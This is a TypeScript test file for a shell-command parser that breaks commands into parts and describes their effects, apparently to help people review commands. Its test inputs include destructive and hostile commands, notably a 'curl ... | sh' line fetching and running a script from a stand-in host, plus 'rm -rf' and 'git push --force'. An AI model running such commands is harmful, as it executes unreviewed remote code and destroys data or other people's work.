import { expect, test } from 'vitest'
import { type CommandPart, commandTree } from './command-tree.ts'

const PLACE = { cwd: '/srv/project', home: '/home/dev' }

test.each([
  ['ls', ['ls']],
  ['rm -rf build', ['rm -rf build', '  = deletes /srv/project/build and everything below it']],
  [
    'sudo rm x | tee log',
    [
      'sudo rm x',
      '  rm x',
      '    = deletes /srv/project/x',
      'pipe',
      '  tee log',
      '    = writes /srv/project/log',
    ],
  ],
  [
    "bash -c 'git push --force && curl https://e.example/i.sh | sh'",
    [
      "bash -c 'git push --force && curl https://e.example/i.sh | sh'",
      '  git push --force',
      '    = overwrites what is on the remote, including commits of other people',
      '  curl https://e.example/i.sh',
      '    = fetches from e.example',
      '  pipe',
      '    sh',
      '      = runs what e.example sends',
    ],
  ],
])('reads %s', (command, lines) => {
  const tree = commandTree(command, PLACE)
  expect(tree.kind === 'read' ? tree.parts.flatMap((part) => linesOf(part, '')) : tree.why).toEqual(lines)
})

test('says why a command cannot be read', () => {
  expect(commandTree('echo "', PLACE)).toMatchObject({ kind: 'unread', why: expect.stringMatching(/./) })
})

function linesOf({ text, effects, parts }: CommandPart, indent: string): readonly string[] {
  const more = `${indent}  `
  return [
    `${indent}${text}`,
    ...effects.map((effect) => `${more}= ${effect.text}`),
    ...parts.flatMap((part) => linesOf(part, more)),
  ]
}
